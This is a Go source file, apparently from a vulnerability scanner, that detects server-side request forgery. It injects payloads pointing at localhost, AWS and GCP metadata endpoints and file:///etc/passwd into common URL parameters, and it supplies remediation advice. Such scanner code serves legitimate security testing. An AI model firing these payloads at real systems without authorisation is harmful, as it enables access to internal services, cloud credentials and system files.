// Package ssrf detects server-side request forgery by pointing URL-like
// parameters at loopback, cloud metadata and file: targets.
package ssrf

import (
	"context"
	"fmt"

	"github.com/shadowprobe/shadowprobe/pkg/attackconfig"
	"github.com/shadowprobe/shadowprobe/pkg/finding"
	"github.com/shadowprobe/shadowprobe/pkg/probe"
)

const Name = "SSRF Scanner"

var CommonParams = []string{"url", "uri", "dest", "redirect", "path", "src", "callback", "feed", "host"}

// Payloads target internal resources. Loopback probes carry no patterns;
// they only confirm reachability with out-of-band tooling.
var Payloads = []probe.Payload{
	{Value: "http://127.0.0.1", Description: "Localhost SSRF"},
	{Value: "http://localhost", Description: "Localhost name SSRF"},
	{
		Value:       "http://169.254.169.254/latest/meta-data/",
		Description: "AWS metadata SSRF",
		Patterns:    []string{"ami-id", "instance-id"},
	},
	{
		Value:       "file:///etc/passwd",
		Description: "File protocol SSRF",
		Patterns:    []string{"root:", "/bin/"},
	},
	{Value: "http://metadata.google.internal/", Description: "GCP metadata SSRF"},
}

const remediation = "Validate and allowlist outbound destinations. Block requests to internal address ranges and cloud metadata endpoints. Disable unused URL schemes."

type Config struct {
	attackconfig.Base
	Params   []string
	Payloads []probe.Payload
}

func DefaultConfig() Config {
	return Config{Params: CommonParams, Payloads: Payloads}
}

type Detector struct {
	injector *probe.Injector
}

var _ probe.Detector = (*Detector)(nil)

func New(cfg Config) *Detector {
	cfg.Validate()
	if len(cfg.Params) == 0 {
		cfg.Params = CommonParams
	}
	if len(cfg.Payloads) == 0 {
		cfg.Payloads = Payloads
	}

	return &Detector{injector: &probe.Injector{
		Base:     cfg.Base,
		Class:    finding.SSRF,
		Payloads: cfg.Payloads,
		Params:   cfg.Params,
		Describe: func(p probe.Payload, _ string) string {
			return fmt.Sprintf("Server-Side Request Forgery (SSRF) detected using %s. The server fetches attacker-controlled URLs.", p.Description)
		},
		Remediation: remediation,
	}}
}

func (d *Detector) Name() string { return Name }

func (d *Detector) Class() finding.Class { return finding.SSRF }

func (d *Detector) Scan(ctx context.Context, endpoint string) []*finding.Vulnerability {
	return d.injector.Run(ctx, endpoint)
}
